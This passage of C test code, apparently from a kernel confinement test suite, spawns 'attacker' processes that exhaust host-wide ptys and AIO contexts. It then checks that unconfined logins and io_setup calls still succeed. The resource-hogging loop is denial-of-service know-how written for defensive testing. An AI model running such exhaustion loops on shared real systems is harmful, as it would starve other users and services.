	for (;;) {
		unsigned long ctx = 0;

		if (syscall(SYS_io_setup, 128, &ctx)) {
			rep.aio_errno = errno;
			break;
		}
		rep.aio += 128;
		if (rep.aio > 10000000)
			break;
	}
	if (write(global_ready[1], &rep, sizeof(rep)) != sizeof(rep))
		return 202;
	for (;;)
		pause();
}

VM_TEST(a6_host_wide_ptys_and_aio_held_by_a_confined_root, 262)
{
	a6_setup();
	VM_TIMEOUT(60);
	if (access("/dev/pts/ptmx", F_OK) != 0)
		VM_CHECK(system("mkdir -p /dev/pts && mount -t devpts -o ptmxmode=0666,mode=0620 "
				"devpts /dev/pts; [ -e /dev/ptmx ] || ln -s pts/ptmx /dev/ptmx") == 0);
	printf("# kernel.pty.max %d, fs.aio-max-nr %d\n", read_int_file("/proc/sys/kernel/pty/max"),
	       read_int_file("/proc/sys/fs/aio-max-nr"));
	for (size_t c = 0; c < 2; c++) {
		struct global_report rep = {0};
		struct pollfd pfd;
		struct a6_proc hog;
		unsigned long ctx = 0;
		int pty, pty_errno, aio_errno;

		VM_CHECK(pipe(global_ready) == 0);
		VM_CHECK(a6_spawn(&hog, attackers[c], do_global_hog, NULL));
		pfd.fd = global_ready[0];
		pfd.events = POLLIN;
		if (poll(&pfd, 1, 30000) != 1 ||
		    read(global_ready[0], &rep, sizeof(rep)) != sizeof(rep)) {
			VM_FAIL("the attacker reported nothing");
			a6_wait(&hog, 100);
			continue;
		}
		close(global_ready[0]);
		close(global_ready[1]);
		/* An administrator's login (a pty), a database's io_setup: unconfined. */
		pty = open("/dev/ptmx", O_RDWR | O_NOCTTY);
		pty_errno = pty < 0 ? errno : 0;
		aio_errno = syscall(SYS_io_setup, 128, &ctx) ? errno : 0;
		printf("# %s: the confined root holds %d ptys (stopped by %s) and %ld AIO events "
		       "(stopped by %s); unconfined: a new pty %s, io_setup %s\n",
		       attacker_names[c], rep.ptys, res(rep.pty_errno), rep.aio,
		       res((int)rep.aio_errno), res(pty_errno), res(aio_errno));
		VM_CHECK(pty_errno == 0);
		VM_CHECK(aio_errno == 0);
		if (pty >= 0)
			close(pty);
		if (!aio_errno)
			syscall(SYS_io_destroy, ctx);
		a6_wait(&hog, 100);
		usleep(500 * 1000);
	}
}
